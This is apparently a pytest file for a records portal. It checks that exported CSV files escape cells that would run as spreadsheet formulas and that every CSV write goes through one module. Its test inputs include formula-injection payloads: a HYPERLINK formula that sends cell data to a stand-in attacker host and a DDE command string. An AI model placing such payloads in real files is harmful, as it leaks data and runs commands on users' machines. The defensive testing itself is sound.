"""Every CSV file the product writes is safe to open in a spreadsheet: a cell that would run as
a formula is written as text, and all of them come from the one writer."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from portal import csvfile
from portal.reference.models import Agency

ATTACKS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1"]
ROOT = Path(__file__).resolve().parents[2]
# Reading a CSV file (as the release check does) is fine; writing one must go through csvfile.
WRITES_CSV = re.compile(r"csv\.(writer|DictWriter)\b|from csv import .*\b(writer|DictWriter)\b")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_written_as_text(attack: str) -> None:
    text = csvfile.text(["name", "n"], [{"name": attack, "n": -5}])
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert header == ["name", "n"]
    assert row == ["'" + attack, "-5"]


def test_plain_text_numbers_and_empty_cells_are_as_they_are() -> None:
    text = csvfile.text(["a", "b", "c", "d"], [{"a": "Robin O'Neil", "b": 3, "c": None,
                                                "d": True}, {"a": "a=b"}])
    assert list(csv.reader(io.StringIO(text)))[1:] == [["Robin O'Neil", "3", "", "True"],
                                                      ["a=b", "", "", ""]]


def test_the_product_has_one_csv_writer() -> None:
    # Any other module writing CSV itself would bypass the formula escaping.
    offenders = [str(path.relative_to(ROOT)) for package in ("portal", "consent", "sar")
                 for path in (ROOT / package).rglob("*.py")
                 if path.name != "csvfile.py"
                 and WRITES_CSV.search(path.read_text(encoding="utf-8"))]
    assert offenders == []


def test_the_persons_download_escapes_formulas(client: FlaskClient, session: Session,
                                               demo: Any) -> None:
    from tests.consent.selfservice.helpers import linked_account
    from tests.identity_helpers import login

    # Given an agency whose SAR contact was set to a formula
    agency = session.scalar(select(Agency).where(Agency.slug == "fenshire-police"))
    assert agency is not None
    agency.sar_contact = ATTACKS[0]
    session.commit()
    account = linked_account(session, "FP-DEMO-0001")
    login(client, account)
    # When the person downloads their data
    archive = zipfile.ZipFile(io.BytesIO(client.get("/my/download/my-data.zip").data))
    rows = list(csv.DictReader(io.StringIO(archive.read("holdings.csv").decode())))
    # Then the CSV cell is text, and the JSON keeps the exact value
    assert "'" + ATTACKS[0] in [r["agency_contact"] for r in rows]
    assert ATTACKS[0] in archive.read("holdings.json").decode("unicode_escape")
